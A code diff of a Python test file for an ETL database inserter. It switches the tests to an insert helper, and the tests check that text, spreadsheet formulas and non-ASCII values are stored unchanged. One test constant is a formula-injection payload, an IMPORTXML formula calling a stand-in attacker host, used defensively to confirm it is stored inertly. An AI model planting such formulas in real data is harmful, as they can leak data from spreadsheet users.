@@ -14,7 +14,7 @@ from psycopg2.extensions import connection
 from etl.components.database_inserter import DatabaseInserter
 from etl.demo.campus import record
 from tests.conftest import Parameters
-from tests.database_inserter.batches import STARTED, UTC_ZONE, batch, entry, rows_of
+from tests.database_inserter.batches import STARTED, UTC_ZONE, batch, entry, insert, rows_of
 from tests.database_inserter.conftest import Execute
 
 FORMULA = '=IMPORTXML("https://evil.example","//a")'
@@ -67,7 +67,7 @@ def test_any_storable_text_comes_back_as_it_was(
 ) -> None:
     with colleague, colleague.cursor() as at:
         at.execute("DELETE FROM attempts")
-    assert inserter.insert(rows_of(attempts(passbacks))).inserted == len(passbacks)
+    assert insert(inserter, rows_of(attempts(passbacks))).inserted == len(passbacks)
     with colleague, colleague.cursor() as at:
         at.execute(
             "SELECT oauth_consumer_key, lis_result_sourcedid, lis_outcome_service_url"
@@ -80,15 +80,15 @@ def test_the_awkward_texts_are_equal_to_themselves_the_next_time(
     inserter: DatabaseInserter,
 ) -> None:
     rows = rows_of(attempts([(text, text, None) for text in AWKWARD]))
-    assert inserter.insert(rows).inserted == len(AWKWARD)
-    assert inserter.insert(rows).duplicates == len(AWKWARD)
+    assert insert(inserter, rows).inserted == len(AWKWARD)
+    assert insert(inserter, rows).duplicates == len(AWKWARD)
 
 
 def test_r8_a_formula_is_stored_as_the_text_that_it_is(
     inserter: DatabaseInserter, select: Execute
 ) -> None:
     passback = repr({"lis_result_sourcedid": FORMULA})
-    inserter.insert(batch(record(lti_user_id="=1+1", passback_params=passback)))
+    insert(inserter, batch(record(lti_user_id="=1+1", passback_params=passback)))
     assert select("SELECT user_id, lis_result_sourcedid FROM attempts") == [("=1+1", FORMULA)]
 
 
@@ -106,8 +106,8 @@ def ascii_database(database: Parameters, execute: Execute) -> Iterator[Parameter
 def test_d5_the_encoding_of_the_database_is_of_no_importance(ascii_database: Parameters) -> None:
     inserter = DatabaseInserter(lambda: ascii_database, zone=UTC_ZONE)
     inserter.open(STARTED)
-    assert inserter.insert(rows_of(attempts([("ключ", "🎓", None)]))).inserted == 1
-    assert inserter.insert(batch('"Опечатка"')).rejected == 1
+    assert insert(inserter, rows_of(attempts([("ключ", "🎓", None)]))).inserted == 1
+    assert insert(inserter, batch('"Опечатка"')).rejected == 1
     inserter.close(entry())
     session = psycopg2.connect(**ascii_database, client_encoding="UTF8")
     with session.cursor() as at:
